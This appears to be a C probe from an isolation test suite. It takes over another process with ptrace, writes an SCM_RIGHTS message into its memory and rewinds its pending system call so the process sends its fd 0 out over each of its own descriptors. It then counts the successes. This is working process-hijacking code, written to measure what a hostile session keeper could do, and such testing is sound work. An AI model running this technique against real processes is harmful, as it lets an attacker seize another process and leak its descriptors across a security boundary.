/*
 * Takes another process over by ptrace(2), and has it try to send an fd by every one of its own: what a session's
 * keeper is good for in hostile hands. Prints how many took it.
 */
#include "probe.h"

#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#if defined __x86_64__

#define FDS_MAX  256
#define RED_ZONE 1024 /* below the stack pointer, and beyond what the ABI lets a leaf function use there */

struct packet {
    struct msghdr hdr;
    struct iovec iov;
    char control[CMSG_SPACE(sizeof(int))];
    char data[16];
};

static int memory_write(pid_t pid, uint64_t to, const void *from, size_t len)
{
    for (size_t at = 0; at < len; at += sizeof(long)) {
        long word = 0;

        memcpy(&word, (const char *)from + at, len - at < sizeof word ? len - at : sizeof word);
        if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(to + at), (void *)word) < 0)
            return -1;
    }
    return 0;
}

/* A message with the process's own fd 0, at that address in it. */
static struct packet packet_at(uint64_t at)
{
    struct packet packet = { .iov = { (void *)(uintptr_t)(at + offsetof(struct packet, data)), 16 } };
    struct cmsghdr *cmsg = (struct cmsghdr *)packet.control;

    packet.hdr.msg_iov = (struct iovec *)(uintptr_t)(at + offsetof(struct packet, iov));
    packet.hdr.msg_iovlen = 1;
    packet.hdr.msg_control = (void *)(uintptr_t)(at + offsetof(struct packet, control));
    packet.hdr.msg_controllen = sizeof packet.control;
    cmsg->cmsg_level = SOL_SOCKET;
    cmsg->cmsg_type = SCM_RIGHTS;
    cmsg->cmsg_len = CMSG_LEN(sizeof(int));
    return packet;
}

/* The system call that the process waits in is made again as sendmsg(2). Returns what that returned. */
static long send_by(pid_t pid, const struct user_regs_struct *stopped, int fd)
{
    struct user_regs_struct regs = *stopped;
    uint64_t at = (stopped->rsp - RED_ZONE - sizeof(struct packet)) & ~UINT64_C(15);
    struct packet packet = packet_at(at);
    int status;

    regs.rax = SYS_sendmsg;
    regs.orig_rax = (unsigned long long)-1;
    regs.rdi = (unsigned long long)fd;
    regs.rsi = at;
    regs.rdx = MSG_NOSIGNAL | MSG_DONTWAIT;
    regs.rip -= 2; /* the length of `syscall` */
    if (memory_write(pid, at, &packet, sizeof packet) < 0 || ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 ||
        ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status) ||
        ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
        return -EIO;
    return (long)regs.rax;
}

/* Prints "sockets N sent N", or why there is none. */
int probe_steal(const char *pid_text)
{
    pid_t pid = atoi(pid_text);
    struct user_regs_struct regs;
    int status, sockets = 0, sent = 0;

    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid ||
        ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0) {
        printf("%s\n", errno_name(errno));
        return 0;
    }
    for (int fd = 0; fd < FDS_MAX; fd++) {
        long n = send_by(pid, &regs, fd);

        sockets += n != -EBADF && n != -ENOTSOCK;
        sent += n > 0;
    }
    ptrace(PTRACE_SETREGS, pid, NULL, &regs);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    printf("sockets %d sent %d\n", sockets, sent);
    return 0;
}

#else

int probe_steal(const char *pid_text)
{
    printf("%s: the registers of this architecture are not known\n", pid_text);
    return 0;
}

#endif
